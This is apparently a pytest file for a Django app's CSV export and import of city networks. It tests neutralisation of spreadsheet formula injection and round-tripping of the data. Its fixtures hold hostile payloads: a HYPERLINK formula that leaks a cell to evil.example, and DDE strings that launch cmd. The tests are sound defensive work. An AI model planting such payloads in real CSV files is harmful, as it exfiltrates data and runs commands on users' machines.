"""The CSV export neutralises cells a spreadsheet would run as formulas (OWASP "CSV
Injection": cells starting with =, +, -, @, tab or carriage return get a leading single
quote), and the import reads them back, so an export still round-trips."""

import csv
import io

import pytest

from cities.models import City, Country
from networks.export import export_csv
from networks.importer.apply import import_networks
from networks.importer.columns import FORMULA_STARTS, neutralise_cell, restore_cell
from networks.models import GoodPractice, Membership, Network, Programme
from tests.factories import (
    CityFactory,
    CountryFactory,
    GoodPracticeFactory,
    MembershipFactory,
    NetworkFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DANGEROUS = {
    "network": HYPERLINK,
    "other_network": "-5 Cities",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "good_practice": "+cmd|' /C notepad'!A0",
    "city": "=1+2",
    "quoted": "'=already quoted",
}


@pytest.fixture
def injected():
    latvia = CountryFactory(code="LV", name_lv="Latvija", name_en="Latvia")
    riga = CityFactory(country=latvia, slug="riga", name_lv="Rīga", name_en="Riga")
    formula_city = CityFactory(
        country=latvia, slug="formula", name_lv=DANGEROUS["city"], name_en=DANGEROUS["city"]
    )
    practice = GoodPracticeFactory(
        city=riga, title_lv=DANGEROUS["good_practice"], title_en=DANGEROUS["good_practice"]
    )
    first = NetworkFactory(
        slug="hyperlink", name_lv=HYPERLINK, name_en=HYPERLINK, good_practice=practice
    )
    MembershipFactory(
        network=first, city=riga, role="lead_partner", organisation=DANGEROUS["organisation"]
    )
    MembershipFactory(network=first, city=formula_city, organisation=DANGEROUS["quoted"])
    second = NetworkFactory(slug="5-cities", name_lv="-5 Cities", name_en="-5 Cities")
    MembershipFactory(network=second, city=riga, role="lead_partner")
    return first, second


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_exported_cell_starts_like_a_formula(injected):
    text = export_csv(Network.objects.all())
    for cell in cells(text):
        assert not cell.startswith(FORMULA_STARTS), cell
    for value in DANGEROUS.values():
        assert "'" + value in cells(text)


def test_the_public_csv_is_neutralised(client, injected):
    response = client.get("/api/v1/networks.csv")
    assert response.status_code == 200
    text = response.content.decode()
    assert "'" + HYPERLINK in cells(text)
    assert "'-5 Cities" in cells(text)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells(text))


def test_an_export_reimports_without_changes(injected):
    text = export_csv(Network.objects.all())
    result = import_networks(text.encode())
    assert not result.has_changes, result.changes


def test_an_export_reimports_into_an_empty_database_as_it_was(injected):
    def state():
        return sorted(
            (m.network.name_en, m.city.name_en, m.role, m.organisation)
            for m in Membership.objects.select_related("network", "city")
        ), sorted(GoodPractice.objects.values_list("title_en", flat=True))

    before = state()
    text = export_csv(Network.objects.all())
    Network.objects.all().delete()
    GoodPractice.objects.all().delete()
    City.objects.all().delete()
    Country.objects.all().delete()
    # What `migrate` creates stays: the programme's own facts.
    Programme.objects.exclude(slug__in=["urbact-ii", "urbact-iii", "urbact-iv"]).delete()

    import_networks(text.encode())

    assert state() == before
    assert Network.objects.filter(name_en=HYPERLINK).exists()
    assert Network.objects.filter(name_en="-5 Cities").exists()
    assert export_csv(Network.objects.all()) == text


@pytest.mark.parametrize(
    "value",
    ["=1", "+1", "-1", "@A1", "\tx", "\rx", "'", "''", "'=x", "'hello", "plain", "", "a=b"],
)
def test_neutralising_then_restoring_gives_the_value_back(value):
    assert restore_cell(neutralise_cell(value)) == value


def test_a_hand_written_quote_is_kept():
    # Only what an export would have written loses its quote.
    assert restore_cell("'hello") == "'hello"
    assert restore_cell("'=SUM(A1)") == "=SUM(A1)"
    assert neutralise_cell("Rīga") == "Rīga"
    assert neutralise_cell(2) == "2"
